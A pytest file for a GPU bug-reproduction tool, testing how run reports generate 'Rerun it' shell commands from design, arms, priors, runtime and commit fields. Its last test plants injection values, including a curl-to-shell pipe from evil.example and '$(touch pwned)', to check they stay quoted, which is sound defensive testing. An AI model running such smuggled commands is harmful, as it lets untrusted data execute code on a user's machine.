"""The comment's "Rerun it" steps repeat the run's own design, arms, priors, runtime and commit
(report/rerun.py), for documents that carry each of those fields; a document without one reads
as it did before the field existed."""

from __future__ import annotations

import copy
import json
import os
import subprocess
from pathlib import Path

import pytest

from gpurepro.case import load_case
from gpurepro.cli.args import check_arguments
from gpurepro.cli.parser import parser
from gpurepro.report.rerun import (
    URL_VARIABLE,
    arms_as_given,
    budget_arguments,
    left_to_node,
    rerun_arguments,
    rerun_section,
    unpinned_bindings,
)
from tests import invoke

ROOT = Path(__file__).resolve().parents[2]
TILE = ROOT / "results" / "tile_unload_race"
DECISIVE = TILE / "20261201T120321Z_NVIDIA-H200_redacted.json"
FIXED = TILE / "20261201T102114Z_NVIDIA-H200_redacted.json"
CTX = ROOT / "results" / "ctx_get_device_v2" / "20261201T142253Z_NVIDIA-H200_redacted.json"
PTXAS = ROOT / "results" / "ptxas_abs_clamp" / "20261201T142138Z_NVIDIA-H200_redacted.json"


def _doc(path: Path) -> dict:
    return copy.deepcopy(json.loads(path.read_text()))


def _blocks(doc: dict, url: str | None = "https://example.org/gpurepro.git") -> list[list[str]]:
    lines, blocks, inside = rerun_section(doc, url), [], None
    for line in lines:
        for part in line.split("\n"):
            if part.startswith("```sh"):
                inside = []
            elif part.startswith("```") and inside is not None:
                blocks.append(inside)
                inside = None
            elif inside is not None:
                inside.append(part)
    return blocks


def _checked(doc: dict, args: list[str]):
    parsed = parser().parse_args(["case", doc["case"]["name"], *args])
    case = load_case(doc["case"]["name"], ROOT)
    return parsed, check_arguments(case, parsed, ROOT, gpu_info={"gpus": []})


def test_a_decisive_run_reruns_the_decisive_design_with_its_numbers():
    doc = _doc(DECISIVE)
    args = rerun_arguments(doc)
    # It journaled no spending and no share: the rerun checks out its commit, whose defaults
    # are the even split and the two-sided p it ran with, so it names neither.
    assert args[args.index("--decisive"):args.index("--decisive") + 5] == \
        ["--decisive", "--max-trials", "10", "--alpha", "0.05"]
    assert "--until-decided" not in args and "--look-every" not in args
    assert "--alpha-spending" not in args and "--supported-share" not in args
    parsed, checked = _checked(doc, args)
    assert checked.design.to_json() == {"design": "decisive", "alpha": 0.05, "max_trials": 10,
                                "spending": "halving", "supported_share": 0.9, "horizon": "auto"}
    assert checked.trials_per_arm == 10 and parsed.seed == doc["plan"]["seed"]


def test_a_decisive_runs_horizon_is_named_where_it_was_given_or_refused_and_not_where_chosen():
    doc = _doc(DECISIVE)
    stopping = doc["plan"]["options"]["stopping"]
    chosen = {**stopping, "rate_test": "trials_to_horizon", "horizon": 33402.0,
              "horizon_choice": {"horizon": 33402.0, "how": "the candidate whose ..."}}
    given = {**chosen, "horizon": 4096.0, "horizon_choice": {"horizon": 4096.0,
                                                             "how": "given with --horizon"}}
    refused = {**stopping, "rate_test": "constant_rate"}
    out = {}
    for name, s in (("chosen", chosen), ("given", given), ("refused", refused)):
        doc["plan"]["options"]["stopping"] = s
        args = rerun_arguments(doc)
        out[name] = args[args.index("--horizon") + 1] if "--horizon" in args else None
        _checked(doc, args)  # today's parser takes what the rerun names
    assert out == {"chosen": None, "given": "4096", "refused": "none"}


def test_a_decisive_run_that_halved_its_alpha_reruns_with_the_default():
    doc = _doc(DECISIVE)
    doc["plan"]["options"]["stopping"] = {**doc["plan"]["options"]["stopping"],
                                          "spending": "halving", "supported_share": 0.9}
    args = rerun_arguments(doc)
    assert "--alpha-spending" not in args and "--supported-share" not in args
    stopping = _checked(doc, args)[1].design.to_json()
    assert stopping["spending"] == "halving" and stopping["supported_share"] == 0.9
    # One run with other than the defaults names them.
    doc["plan"]["options"]["stopping"].update(spending="even", supported_share=0.5)
    args = rerun_arguments(doc)
    assert args[args.index("--decisive"):args.index("--decisive") + 5] == \
        ["--decisive", "--alpha-spending", "even", "--supported-share", "0.5"]
    stopping = _checked(doc, args)[1].design.to_json()
    assert stopping["spending"] == "even" and stopping["supported_share"] == 0.5


def test_an_until_decided_run_keeps_its_design():
    doc = _doc(DECISIVE)
    doc["plan"]["options"]["stopping"] = {"alpha": 0.05, "step": 5, "max_trials": 10}
    args = rerun_arguments(doc)
    assert "--decisive" not in args
    assert args[args.index("--until-decided"):][:7] == \
        ["--until-decided", "--max-trials", "10", "--look-every", "5", "--alpha", "0.05"]


@pytest.mark.parametrize(("scope", "expected"), [("main", []), ("deep", ["--deep"]),
                                                  ("arms", None), (None, None)])
def test_the_scope_decides_the_arms_flag(scope, expected):
    doc = _doc(DECISIVE)
    if scope is not None:
        doc["plan"]["options"]["scope"] = scope
    args = rerun_arguments(doc)
    if expected is None:  # the arms the plan names, as every run before scopes
        assert args[2:4] == ["--arms", ",".join(arms_as_given(doc["plan"]))]
    else:
        assert "--arms" not in args and args[2:2 + len(expected)] == expected


def test_priors_named_by_the_run_are_named_again_and_priors_by_rule_are_not():
    doc = _doc(DECISIVE)
    stopping = doc["plan"]["options"]["stopping"]
    assert stopping["priors_from"] and "--priors-from" not in rerun_arguments(doc)
    stopping["priors_named"] = True
    stopping["priors_from"] = ["results/a b.json", "results/c.json"]
    args = rerun_arguments(doc)
    at = args.index("--priors-from")
    assert args[at:at + 3] == ["--priors-from", "results/a b.json", "results/c.json"]
    assert args[at + 3:] == ["--redact"]
    nox = _blocks(doc)[0]
    assert "--priors-from 'results/a b.json' results/c.json --redact)" in nox[-2]


@pytest.mark.parametrize("doc", [FIXED, DECISIVE, TILE / "20261130T032141Z_NVIDIA-H200_redacted.json"],
                         ids=["blocks", "blocks-decisive", "one-shuffle"])
def test_the_arms_go_in_the_order_that_shuffles_to_the_plans_order(doc):
    """The journal lists the arms by name; the shuffle took them in the order given (the
    manifest's here): that order, read back from the plan, plans the run's order again."""
    plan = _doc(doc)["plan"]
    given = arms_as_given(plan)
    assert sorted(given) == sorted(plan["arms"]) and given != sorted(plan["arms"])
    assert given[0] == "baseline"  # first in the case's manifest
    parsed, checked = _checked(_doc(doc), rerun_arguments(_doc(doc)))
    assert list(checked.arms) == given
    if doc.name.startswith("20261130T032141Z"):  # the first harness's one shuffle of every trial
        return
    from gpurepro.run.session import new_plan

    again = new_plan(load_case("tile_unload_race", ROOT), checked)
    assert [(t.arm, t.rep) for t in again.order] == [(t["arm"], t["rep"]) for t in plan["order"]]


def test_arms_in_an_order_no_shuffle_gives_are_listed_as_the_plan_lists_them():
    plan = _doc(FIXED)["plan"]
    plan["order"][0], plan["order"][1] = plan["order"][1], plan["order"][0]
    assert arms_as_given(plan) == list(plan["arms"])


def test_budget_flags_that_the_runs_harness_knew():
    assert budget_arguments({"duration_s": 5.0, "max_exposure": 0, "stall_s": 4.0,
                             "timeout_s": 75.0}) == \
        ["--duration", "5", "--timeout", "75", "--max-exposure", "0", "--hang-after", "4"]
    # Before the no-progress limit: no exposure budget is said by leaving the flag out (its
    # name was --max-cycles then); a nonzero one keeps the name its record has.
    assert budget_arguments({"duration_s": 5.0, "max_exposure": 0, "timeout_s": 90.0}) == \
        ["--duration", "5", "--timeout", "90"]
    assert budget_arguments({"duration_s": 5.0, "max_cycles": 200, "timeout_s": 90.0})[-2:] == \
        ["--max-cycles", "200"]
    assert budget_arguments({"duration_s": 5.0, "max_exposure": 3, "timeout_s": 30.0,
                             "stall_s": None}) == \
        ["--duration", "5", "--timeout", "30", "--max-exposure", "3"]


def test_runtime_wheels_rerun_on_their_python_in_both_ways():
    doc = _doc(CTX)
    nox, plain = _blocks(doc)
    assert nox[-1] == 'nox -s ctx_get_device_v2 --force-python 3.12 -- "${ARGS[@]}"'
    assert plain[0] == "python3.12 -m venv .venv-rerun && . .venv-rerun/bin/activate"
    # The node's llvmlite, left to the node by the case (Runtime.from_node), at its version.
    assert left_to_node(doc) == ["llvmlite==0.50.0"] and plain[1].endswith(" llvmlite==0.50.0")
    assert unpinned_bindings(doc) == []  # every arm pinned cuda-bindings
    text = "\n".join(rerun_section(doc, None))
    assert "wheels for Python 3.12" in text and "`llvmlite==0.50.0` to the GPU node" in text


def test_bindings_the_node_had_and_the_case_did_not_pin_are_installed_without_nox():
    doc = _doc(PTXAS)
    assert "runtime" not in doc
    assert unpinned_bindings(doc) == ["cuda-bindings==13.3.1"]
    nox, plain = _blocks(doc)
    assert "--force-python" not in nox[-1] and len(plain) == 2
    assert plain[0].split()[-1] == "cuda-bindings==13.3.1"
    assert "nox only what the case pins" in "\n".join(rerun_section(doc, None))


def test_a_document_without_a_commit_says_so_instead_of_checking_one_out():
    doc = _doc(FIXED)
    doc["environment"]["repository"]["commit"] = None
    doc["environment"]["repository"]["manifest"] = {
        "path": "cases/tile_unload_race/manifest.py", "sha256": "ab" * 32, "named_commit": "6282a7f",
        "found": "none", "note": "the run named 6282a7f; no commit of the history holds it"}
    nox, _ = _blocks(doc)
    assert not any(line.startswith("git checkout") for line in nox)
    assert "# no commit to check out: the note below says why" in nox
    text = "\n".join(rerun_section(doc, None))
    assert "The commit: the run named 6282a7f; no commit of the history holds it." in text


def test_the_commit_found_is_checked_out_and_how_it_was_found_is_said():
    doc = _doc(PTXAS)
    repo = doc["environment"]["repository"]
    nox, _ = _blocks(doc)
    assert f"git checkout {repo['commit']}" in nox
    assert repo["manifest"]["named_commit"] not in "\n".join(nox)
    assert repo["manifest"]["note"] in "\n".join(rerun_section(doc, None))


def test_a_dirty_tree_is_said_of_the_commit_it_was_on_not_of_one_found_for_it():
    found = _doc(TILE / "20261130T032141Z_NVIDIA-H200_redacted.json")  # dirty on 312086f
    named = _doc(TILE / "20261130T030214Z_NVIDIA-H200_redacted.json")  # dirty, holds it
    assert found["environment"]["repository"]["dirty"] and named["environment"]["repository"]["dirty"]
    assert "uncommitted changes" not in "\n".join(rerun_section(found, None))
    assert "uncommitted changes on top of" in "\n".join(rerun_section(named, None))


def test_issue_clones_from_the_projects_address_or_the_one_set_and_says_what_to_set_without(
        tmp_path):
    def issue(**extra: str) -> subprocess.CompletedProcess:
        # In this process (tests/invoke.py): the address is read when the command runs.
        env = {k: v for k, v in os.environ.items() if k != URL_VARIABLE}
        return invoke.gpurepro("issue", str(FIXED), cwd=ROOT, env={**env, **extra})

    done = issue()  # pyproject.toml's [project.urls] Repository
    assert done.returncode == 0, done.stderr
    assert "git clone https://github.com/gpurepro/gpurepro gpurepro\ncd gpurepro\n" in done.stdout
    assert URL_VARIABLE not in done.stderr
    done = issue(**{URL_VARIABLE: f"file://{tmp_path}"})  # a fork's, or a local clone's
    assert URL_VARIABLE not in done.stderr
    assert f"git clone file://{tmp_path} gpurepro\ncd gpurepro\n" in done.stdout
    # A placeholder (a host under .invalid) is never printed: the steps say what to set.
    nox, _ = _blocks(_doc(FIXED), url=None)
    assert nox[0].startswith("# in a clone of gpurepro") and URL_VARIABLE in nox[0]
    assert "[project.urls] Repository in pyproject.toml" in nox[0]
    done = issue(**{URL_VARIABLE: "https://gpurepro.invalid/gpurepro.git"})
    assert done.returncode == 0
    assert f"set {URL_VARIABLE}=<the URL to clone gpurepro from>" in done.stderr


def test_every_new_word_from_the_document_is_one_quoted_shell_word():
    """The runtime's Python, named priors and node packages come from the document: each stays
    one word of its line, whatever it holds."""
    import shlex

    doc = _doc(CTX)
    hostile = "3.12; curl https://evil.example/x | sh\n#"
    doc["runtime"]["python"] = hostile
    doc["plan"]["options"]["stopping"] = {"design": "decisive", "alpha": 0.05, "max_trials": 3,
                                          "priors_named": True, "priors_from": ["$(touch pwned)"]}
    arm = next(iter(doc["runtime"]["arms"].values()))
    arm["from_node"] = [{"name": "x`id`", "version": "1;ls", "requirement": "x", "of": "y"}]
    nox, plain = _blocks(doc)
    words = shlex.split(nox[-1])
    assert words[:4] == ["nox", "-s", "ctx_get_device_v2", "--force-python"]
    assert words[4] == hostile.replace("\n", " ") and words[5:] == ["--", "${ARGS[@]}"]
    assert "$(touch pwned)" in shlex.split(nox[-2][len("ARGS=("):-1])
    assert shlex.split(plain[0])[0] == f"python{hostile}".replace("\n", " ")
    assert "x`id`==1;ls" in shlex.split(plain[1])
    assert all("\n" not in line for line in nox + plain)
